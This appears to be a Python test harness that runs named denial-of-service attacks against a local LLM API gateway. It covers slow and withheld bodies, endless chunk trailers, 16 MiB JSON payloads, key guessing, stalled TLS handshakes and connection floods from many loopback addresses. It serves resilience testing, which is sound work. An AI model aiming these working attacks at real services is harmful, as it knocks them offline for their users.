"""Attacks on a gateway, each as a client performs it: `python attacks.py NAME PORT SECONDS KEY`.

run.py starts this file as a process of its own. Every attack ends by itself after SECONDS. An
attack that the gateway cuts off begins again at once, as an enemy would.
"""

import asyncio
import functools
import itertools
import socket
import ssl
import sys
import time
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

ADDRESS = "127.0.0.9"
"""Where attackers come from; the other clients come from 127.0.0.1."""
MANY_ADDRESSES = tuple(f"127.0.1.{number}" for number in range(1, 65))
BODY_LIMIT = 16 << 20
"""The gateway's default for one body, in bytes."""


@dataclass(frozen=True, slots=True)
class Target:
    port: int
    deadline: float
    """On the monotonic clock."""
    key: str

    @property
    def over(self) -> bool:
        return time.monotonic() >= self.deadline

    def head(self, *fields: str, key: bool) -> bytes:
        """A chat request's head; its body comes later, or never."""
        lines = ["POST /v1/completions HTTP/1.1", "Host: gateway", "Content-Type: application/json"]
        lines += [f"Authorization: Bearer {self.key}"] if key else []
        return "\r\n".join([*lines, *fields, "", ""]).encode()


Act = Callable[[Target, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


@dataclass(frozen=True, slots=True)
class Attack:
    what: str
    connections: int
    act: Act
    """On one connection, until the gateway closes it or the time is over."""
    addresses: tuple[str, ...] = (ADDRESS,)
    is_tls: bool = False
    """The gateway serves HTTPS, and victims use it."""
    agents: int = 0
    """Agents under the attacker's control."""
    floods: bool = False
    """The first of them registers without a pause."""
    open_files: int = 0
    """The gateway's limit of descriptors; 0: the machine's."""


async def pipeline(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    batch = b"GET /openapi.json HTTP/1.1\r\nHost: gateway\r\n\r\n" * 500
    await _send_for_ever(target, writer, batch)


async def refuse_answers(
    target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Requests that get 401, and a receive buffer that is soon full."""
    writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
    writer.transport.pause_reading()
    await _send_for_ever(target, writer, b"GET /v1/models HTTP/1.1\r\nHost: g\r\n\r\n" * 400)


async def trail(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(target.head("Transfer-Encoding: chunked", key=True) + b"2\r\n{}\r\n0\r\nX: ")
    await _send_for_ever(target, writer, b"a" * 65_536)


async def trail_fields(
    target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    writer.write(target.head("Transfer-Encoding: chunked", key=True) + b"2\r\n{}\r\n0\r\n")
    await _send_for_ever(target, writer, b"a: b\r\n" * 10_000)


async def extend(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    writer.write(target.head("Transfer-Encoding: chunked", key=True) + b"1;")
    await _send_for_ever(target, writer, b"a" * 65_536)


async def withhold(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, key: bool
) -> None:
    """All of a body but its last byte."""
    writer.write(target.head(f"Content-Length: {BODY_LIMIT}", key=key))
    for _ in range(BODY_LIMIT // 65_536 - 1):
        writer.write(b" " * 65_536)
        await writer.drain()
    await _hold(target, reader)


async def withhold_without_key(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    await withhold(target, reader, writer, key=False)


async def withhold_with_key(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    await withhold(target, reader, writer, key=True)


async def crumble(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """A body of the full size in pieces of three bytes."""
    writer.write(target.head(f"Content-Length: {BODY_LIMIT}", key=True))
    for number in itertools.count():
        if target.over:
            return
        writer.transport.write(b"   ")
        if number % 64 == 63:
            await writer.drain()
            await asyncio.sleep(0)


async def drip(target: Target, _: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A body that comes at a byte a second, after 60 KiB at once."""
    writer.write(target.head(f"Content-Length: {BODY_LIMIT}", key=True) + b" " * 61_440)
    while not target.over:
        writer.write(b" ")
        await writer.drain()
        await asyncio.sleep(1)


async def idle(target: Target, reader: asyncio.StreamReader, _: asyncio.StreamWriter) -> None:
    await _hold(target, reader)


async def idle_with_key(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """Silent, but for a request on each fifth connection, so that this address stays known."""
    if writer.get_extra_info("sockname")[1] % 5:
        await _hold(target, reader)
    writer.write(_post(target, b"/v1/completions", b'{"model":"x","prompt":"a"}'))
    await _read_answer(reader)


def send_body(body: bytes, path: bytes = b"/v1/completions") -> Act:
    """The same request, whole, again and again."""

    async def send(
        target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        while not target.over:
            writer.write(_post(target, path, body))
            await writer.drain()
            await _read_answer(reader)

    return send


async def _read_answer(reader: asyncio.StreamReader) -> None:
    head = await reader.readuntil(b"\r\n\r\n")
    length = next(
        int(line.split(b":")[1])
        for line in head.lower().split(b"\r\n")
        if line.startswith(b"content-length")
    )
    await reader.readexactly(length)


def _full(start: bytes, element: bytes, end: bytes) -> bytes:
    return start + element * ((BODY_LIMIT - len(start) - len(end)) // len(element)) + end


def _fields() -> bytes:
    names = b",".join(b'"f%d":0' % number for number in range(1_000_000))
    return b'{"model":"other","prompt":"a",' + names + b"}"


def _served() -> bytes:
    """A request for many tokens, of which an engine ignores the largest part."""
    begin = b'{"model":"facebook/opt-13b","prompt":"a","max_tokens":1000,"user":"'
    return _full(begin, b"a", b'"}')


async def send_without_key(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    while not target.over:
        writer.write(b"GET /v1/models HTTP/1.1\r\nHost: g\r\n\r\n")
        await _read_answer(reader)


def _post(target: Target, path: bytes, body: bytes) -> bytes:
    head = target.head(f"Content-Length: {len(body)}", key=True)
    return head.replace(b"/v1/completions", path, 1) + body


def stream(script: str, *, reads: bool = True) -> Act:
    """Stream after stream of an engine under the attacker's control."""
    body = b'{"model":"wide","prompt":"script-%b","max_tokens":100000,"stream":true,"logprobs":20}'

    async def act(
        target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        if not reads:
            writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
            writer.transport.pause_reading()
        while not target.over:
            writer.write(_post(target, b"/v1/completions", body % script.encode()))
            if not reads:
                await asyncio.sleep(target.deadline - time.monotonic())
                return
            last = b""
            while not (last := (last + await reader.read(1 << 16))[-64:]).endswith(b"0\r\n\r\n"):
                if reader.at_eof():
                    return

    return act


async def send_digits(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """A length of 5,000 digits."""
    writer.write(target.head("Content-Length: " + "9" * 5_000, key=False))
    await _hold(target, reader)


async def guess(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Keys that are wrong, one after the other."""
    for number in itertools.count():
        if target.over:
            return
        lines = b"GET /v1/models HTTP/1.1\r\nHost: g\r\nAuthorization: Bearer %d\r\n\r\n"
        writer.write(lines % number)
        await _read_answer(reader)


async def probe(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """The page that needs no key."""
    while not target.over:
        writer.write(b"GET /health HTTP/1.1\r\nHost: g\r\n\r\n")
        await _read_answer(reader)


async def shake_hands(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """TLS, and nothing more."""
    await writer.start_tls(trust_all())
    await _hold(target, reader)


async def stall_handshake(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """The first message of a handshake, and never the next."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    with suppress(ssl.SSLWantReadError):
        trust_all().wrap_bio(incoming, outgoing, server_hostname="g").do_handshake()
    writer.write(outgoing.read())
    await _hold(target, reader)


@functools.cache
def trust_all() -> ssl.SSLContext:
    """A client's side of TLS that takes any certificate."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


async def send_chunks(
    target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
) -> None:
    """A body in chunks of one byte."""
    writer.write(target.head("Transfer-Encoding: chunked", key=True))
    await _send_for_ever(target, writer, b"1\r\n \r\n" * 10_000)
    await _hold(target, reader)


async def do_nothing(*_: object) -> None:
    """The agents attack."""
    await asyncio.sleep(1)


_MODEL = b'{"model":"other",'
_TURN = b'{"role":"user","content":"a"}'
ATTACKS = {
    "pipelined": Attack("requests for /openapi.json, answers never read", 4, pipeline),
    "unread": Attack("2,000 clients that read none of their 401s", 2_000, refuse_answers),
    "trailer": Attack("a trailer that never ends", 1, trail),
    "trailers": Attack("trailer fields that never end", 1, trail_fields),
    "extension": Attack("a chunk extension that never ends", 1, extend),
    "bodies": Attack(
        "64 bodies of 16 MiB without their last byte, no key", 64, withhold_without_key
    ),
    "bodies-key": Attack("the same with a valid key", 64, withhold_with_key),
    "crumbs": Attack("8 bodies in pieces of three bytes", 8, crumble),
    "drip": Attack("1,000 bodies at a byte a second", 1_000, drip),
    "served": Attack("64 bodies of 16 MiB that engines hold", 64, send_body(_served())),
    "keyless": Attack("64 clients without a key, request after request", 64, send_without_key),
    "idle": Attack("17,000 silent connections of one address", 17_000, idle),
    "idle-many": Attack("17,000 silent connections of 64 addresses", 17_000, idle, MANY_ADDRESSES),
    "idle-key": Attack(
        "2,000 silent ones and few requests with a key, 1,000 descriptors",
        2_000,
        idle_with_key,
        open_files=1_000,
    ),
    "prompts": Attack(
        "16 MiB of prompts", 1, send_body(_full(_MODEL + b'"prompt":["a"', b',""', b"]}"))
    ),
    "tools": Attack(
        "16 MiB of tools", 1, send_body(_full(_MODEL + b'"prompt":"a","tools":[{}', b",{}", b"]}"))
    ),
    "messages": Attack(
        "16 MiB of messages", 1, send_body(_full(_MODEL + b'"messages":[{}', b",{}", b"]}"))
    ),
    "escapes": Attack(
        "16 MiB of escapes", 1, send_body(_full(_MODEL + b'"prompt":"', rb"\u0041", b'"}'))
    ),
    "nested": Attack(
        "16 MiB of brackets", 1, send_body(_full(_MODEL + b'"prompt":"a","x":', b"[", b"}"))
    ),
    "fields": Attack("a million fields", 1, send_body(_fields())),
    "include": Attack(
        "16 MiB of names in `include`",
        1,
        send_body(_full(_MODEL + b'"input":"a","include":["a"', b',"a"', b"]}"), b"/v1/responses"),
    ),
    "translated": Attack(
        "16 MiB of messages in Anthropic's form",
        1,
        send_body(
            _full(_MODEL + b'"max_tokens":1,"messages":[' + _TURN, b"," + _TURN, b"]}"),
            b"/v1/messages",
        ),
    ),
    "chunks": Attack("bodies in chunks of one byte", 4, send_chunks),
    "figures": Attack("lengths of 5,000 digits, no key", 16, send_digits),
    "wrong-keys": Attack("wrong keys on 64 connections", 64, guess),
    "logprobs": Attack(
        "300 streams with 20 log-probabilities, all read", 300, stream("logprobs"), agents=1
    ),
    "interval": Attack("8 streams of 160 KiB an event, all read", 8, stream("interval"), agents=1),
    "unread-streams": Attack(
        "300 such streams, none read", 300, stream("interval", reads=False), agents=1
    ),
    "long-streams": Attack("4 streams of 131,072 events", 4, stream("long"), agents=1),
    "tiny-events": Attack("4 streams of 4,096 events a write", 4, stream("tiny"), agents=1),
    "health": Attack("/health without a key, 1,024 instances", 8, probe, agents=1_024),
    "registrations": Attack(
        "an agent that registers without a pause, 256 instances",
        1,
        do_nothing,
        agents=256,
        floods=True,
    ),
    "tls-idle": Attack(
        "16,000 silent TLS connections of 64 addresses",
        16_000,
        shake_hands,
        MANY_ADDRESSES,
        is_tls=True,
    ),
    "tls-stalled": Attack(
        "4,000 stalled handshakes of 64 addresses",
        4_000,
        stall_handshake,
        MANY_ADDRESSES,
        is_tls=True,
    ),
    "tls-addresses": Attack(
        "4,000 stalled handshakes of 9,600 addresses",
        4_000,
        stall_handshake,
        tuple(f"127.{a}.{b}.9" for a in range(2, 50) for b in range(200)),
        is_tls=True,
    ),
    "tls-nat": Attack(
        "4,000 stalled handshakes of the other clients' address",
        4_000,
        stall_handshake,
        ("127.0.0.1",),
        is_tls=True,
    ),
    "descriptors": Attack(
        "1,000 silent connections, 400 descriptors", 1_000, idle, MANY_ADDRESSES, open_files=400
    ),
}


async def perform(attack: Attack, target: Target) -> None:
    """All connections of an attack, each opened again when it is cut off."""
    addresses = itertools.cycle(attack.addresses)
    starting = asyncio.Semaphore(64)
    async with asyncio.TaskGroup() as group:
        for _ in range(attack.connections):
            group.create_task(_keep_on(attack, target, next(addresses), starting))


async def _keep_on(
    attack: Attack, target: Target, address: str, starting: asyncio.Semaphore
) -> None:
    while not target.over:
        writer = None
        # A reset, a refusal, an answer that ends: all mean that the gateway has defended itself.
        with suppress(
            OSError,
            asyncio.IncompleteReadError,
            asyncio.LimitOverrunError,
            TimeoutError,
            StopIteration,
        ):
            async with asyncio.timeout_at(
                target.deadline - time.monotonic() + asyncio.get_running_loop().time()
            ):
                async with starting:
                    reader, writer = await asyncio.open_connection(
                        "127.0.0.1", target.port, local_addr=(address, 0)
                    )
                await attack.act(target, reader, writer)
        if writer is not None:
            writer.transport.abort()
        await asyncio.sleep(0.05)


async def _send_for_ever(target: Target, writer: asyncio.StreamWriter, piece: bytes) -> None:
    while not target.over:
        writer.write(piece)
        await writer.drain()


async def _hold(target: Target, reader: asyncio.StreamReader) -> None:
    """Until the gateway closes."""
    while not target.over and await reader.read(4096):
        pass


def main() -> None:
    name, port, seconds, key = sys.argv[1:]
    target = Target(int(port), time.monotonic() + float(seconds), key)
    asyncio.run(perform(ATTACKS[name], target))


if __name__ == "__main__":
    main()
